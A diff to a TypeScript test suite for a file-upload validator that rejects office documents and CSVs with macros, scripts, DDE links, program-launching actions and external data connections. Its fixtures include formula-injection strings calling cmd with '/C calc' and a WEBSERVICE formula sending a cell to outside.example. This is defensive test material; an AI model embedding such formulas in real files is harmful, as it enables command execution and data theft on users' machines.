@@ -7,6 +7,8 @@ import { importWorkbook, signInPeople } from '#server/testing/data/district-peop
 import { libraryWorkbook, template } from '#server/testing/data/factories.ts'
 import { sendFile } from '#server/testing/data/send-file.ts'
 import { uploadLibrary } from '#server/testing/data/upload-library.ts'
+import { linksOf, sheetTypes, xlsxWith } from '#server/testing/documents/active-office-files.ts'
+import { pdfOf } from '#server/testing/documents/pdf-files.ts'
 import { startTestApp, type TestApp } from '#server/testing/test-app.ts'
 import { type Part, zipOf } from '#server/testing/workbooks/workbook-parts.ts'
 
@@ -83,7 +85,98 @@ describe('the content of a resource', () => {
     ['a zip of other files named as a document', 'docx', zipOf([{ name: 'a.txt', content: 'a' }]), another],
     ['a PDF named as a table', 'csv', pdf, another],
     ['a table with a NUL character', 'csv', Buffer.from(`a;b\n${'x'.repeat(200_000)}\0`), another],
-    ['macros', 'docx', zipOf([word, { name: 'word/vbaProject.bin', content: 'x' }]), /holds macros/],
+    [
+      'macros',
+      'docx',
+      zipOf([word, document, { name: 'word/vbaProject.bin', content: 'x' }]),
+      /^This file holds macros \(word\/vbaProject\.bin\)\. Save it without this and upload it again\.$/,
+    ],
+    ['a script', 'pdf', pdfOf('<</S/JavaScript/JS(x)>>'), /^This file holds a script \(object 1\)\./],
+    ['a program before its header', 'pdf', Buffer.concat([Buffer.from('MZ'), pdf]), another],
+    [
+      'a macro sheet of another name',
+      'xlsx',
+      xlsxWith('', sheetTypes({ '/xl/worksheets/sheet9.xml': 'application/vnd.ms-excel.macrosheet+xml' }), {
+        name: 'xl/worksheets/sheet9.xml',
+        content: '<xm:macrosheet/>',
+      }),
+      /holds a macro sheet \(xl\/worksheets\/sheet9\.xml\)/,
+    ],
+    [
+      'a macro sheet by its relationship alone',
+      'xlsx',
+      xlsxWith(
+        '',
+        sheetTypes(),
+        linksOf('xl/sheets.xml', [
+          {
+            type: 'http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet',
+            target: 'a.xml',
+          },
+        ]),
+        { name: 'xl/a.xml', content: '<xm:macrosheet/>' },
+      ),
+      /holds a macro sheet \(xl\/a\.xml\)/,
+    ],
+    [
+      'a DDE link',
+      'xlsx',
+      xlsxWith('', sheetTypes(), {
+        name: 'xl/externalLinks/externalLink1.xml',
+        content: '<externalLink><x:ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
+      }),
+      /holds a DDE link \(xl\/externalLinks\/externalLink1\.xml\)/,
+    ],
+    [
+      'a formula with DDE',
+      'xlsx',
+      xlsxWith(`<row><c><f>cmd&#124;'/C calc'!A0</f></c></row>`, sheetTypes()),
+      /holds a formula with DDE \(xl\/worksheets\/sheet1\.xml\)/,
+    ],
+    [
+      'a formula that sends what is in a cell',
+      'xlsx',
+      xlsxWith('<row><c><f>_xlfn.WEBSERVICE("http://outside.example/"&amp;A1)</f></c></row>', sheetTypes()),
+      /holds a formula that loads from elsewhere/,
+    ],
+    [
+      'a link to a workbook on the web, and a connection',
+      'xlsx',
+      xlsxWith(
+        '',
+        sheetTypes(),
+        linksOf('xl/externalLinks/externalLink1.xml', [
+          { type: 'externalLinkPath', target: 'https://outside.example/a.xlsx', external: true },
+        ]),
+        {
+          name: 'xl/connections.xml',
+          content: '<connections><connection refreshOnLoad="1"/></connections>',
+        },
+      ),
+      /holds a link to a workbook elsewhere \(.+\) and a connection that loads data when it is opened \(/,
+    ],
+    [
+      'a program behind a picture',
+      'pptx',
+      zipOf([
+        types('presentationml.presentation.main+xml'),
+        { name: 'ppt/presentation.xml', content: '<p:presentation/>' },
+        { name: 'ppt/slides/slide1.xml', content: '<a:hlinkClick action="ppaction://program"/>' },
+      ]),
+      /holds an action that starts a program \(ppt\/slides\/slide1\.xml\)/,
+    ],
+    [
+      'a formula that starts a program',
+      'csv',
+      Buffer.from(`a,b\r\n1,"=2+5+cmd|' /C calc'!A0"\r\n`),
+      /holds a formula with DDE \(line 2\)/,
+    ],
+    [
+      'such a formula in UTF-16',
+      'csv',
+      Buffer.from(`\ufeff@cmd|' /C calc'!A0;2`, 'utf16le'),
+      /holds a formula with DDE \(line 1\)/,
+    ],
     ['a PDF cut short', 'pdf', pdf.subarray(0, -2), /damaged or incomplete/],
     ['a document cut short', 'docx', zipOf([word, document]).subarray(0, -30), /damaged or incomplete/],
     [
@@ -127,6 +220,20 @@ describe('the content of a resource', () => {
       const answer = await upload(name, readFileSync(new URL(encodeURIComponent(name), demoFiles)))
       expect(answer.json(), name).toEqual({ fileKey: `template-resources/${name}` })
     }
+    const harmless = xlsxWith(
+      `<row><c><f>IF('a|b'!A1="c|d",IMAGESUM(1),1)</f></c></row>`,
+      sheetTypes(),
+      linksOf('xl/externalLinks/externalLink1.xml', [
+        { type: 'externalLinkPath', target: 'file:///C:\\Data\\Last%20year.xlsx', external: true },
+      ]),
+      linksOf('xl/worksheets/sheet1.xml', [
+        { type: 'hyperlink', target: 'https://outside.example/', external: true },
+      ]),
+      { name: 'xl/connections.xml', content: '<connections><connection refreshOnLoad="0"/></connections>' },
+    )
+    expect((await upload('7~Costs.xlsx', harmless)).statusCode).toBe(201)
+    const answers = Buffer.from('q,a\n-5 | low,yes!\n@home|away,"=SUM(1)"\nx,a|b!\n')
+    expect((await upload('7~Answers.csv', answers)).statusCode).toBe(201)
     const table = await upload('7~Ergebnisse Übersicht.csv', Buffer.from('Name;Größe\nÄnne;1\n', 'latin1'))
     expect(table.json()).toEqual({ fileKey: 'template-resources/7~Ergebnisse Übersicht.csv' })
     for (const { id } of await list()) expect((await remove(id)).statusCode).toBe(204)
